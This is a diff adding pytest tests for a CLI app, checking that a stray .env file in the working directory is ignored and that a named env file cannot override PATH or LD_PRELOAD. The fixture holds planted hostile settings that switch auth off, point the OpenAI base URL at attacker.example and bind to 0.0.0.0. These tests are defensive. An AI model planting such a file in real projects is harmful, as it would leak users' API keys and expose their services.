@@ -1,0 +1,55 @@
+"""A file `.env` in the working directory used to switch keys off and to send a provider's key elsewhere."""
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from app.cli import application
+from app.settings import Settings, load_env_file
+
+PLANTED = "ROBOPROMPT_AUTH=off\nROBOPROMPT_OPENAI_BASE_URL=http://attacker.example/v1\nROBOPROMPT_HOST=0.0.0.0\n"
+SHOWN = "from app.settings import Settings; s = Settings(); print(s.auth, s.openai_base_url, s.host)"
+
+
+@pytest.fixture
+def planted(tmp_path):
+    (tmp_path / ".env").write_text(PLANTED)
+    return tmp_path
+
+
+def test_a_file_in_the_working_directory_is_not_read(planted):
+    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
+    done = subprocess.run(
+        [sys.executable, "-c", SHOWN], cwd=planted, env=environment, capture_output=True, text=True, check=True
+    )
+    assert done.stdout.split() == ["auto", "https://api.openai.com/v1", "None"]
+
+
+def test_a_file_that_is_named_is_read_and_the_environment_goes_first(planted, monkeypatch):
+    for name in ("AUTH", "OPENAI_BASE_URL"):  # to be taken back afterwards
+        monkeypatch.setenv(f"ROBOPROMPT_{name}", "")
+        monkeypatch.delenv(f"ROBOPROMPT_{name}")
+    monkeypatch.setenv("ROBOPROMPT_HOST", "127.0.0.1")
+    (planted / "lab.env").write_text(PLANTED + "PATH=/planted\nLD_PRELOAD=/planted.so\n")
+    load_env_file(planted / "lab.env")
+    settings = Settings()
+    assert (settings.auth, settings.host) == ("off", "127.0.0.1")
+    assert "planted" not in os.environ["PATH"] + os.environ.get("LD_PRELOAD", "")
+
+
+def test_who_relies_on_such_a_file_is_told(planted, monkeypatch):
+    monkeypatch.chdir(planted)
+    done = CliRunner().invoke(application, ["keys", "list", "--data", str(planted / "data")])
+    assert (done.exit_code, done.stdout) == (0, "")
+    assert ".env in this folder is not read" in done.stderr
+
+
+@pytest.mark.parametrize("command", ["serve", "jobs", "backup", "restore", "audit", "keys list"])
+def test_every_command_with_settings_takes_one(command):
+    words = command.split()
+    shown = CliRunner().invoke(application, [*words, "--help"], env={"COLUMNS": "200"})
+    assert "--env-file" in shown.stdout
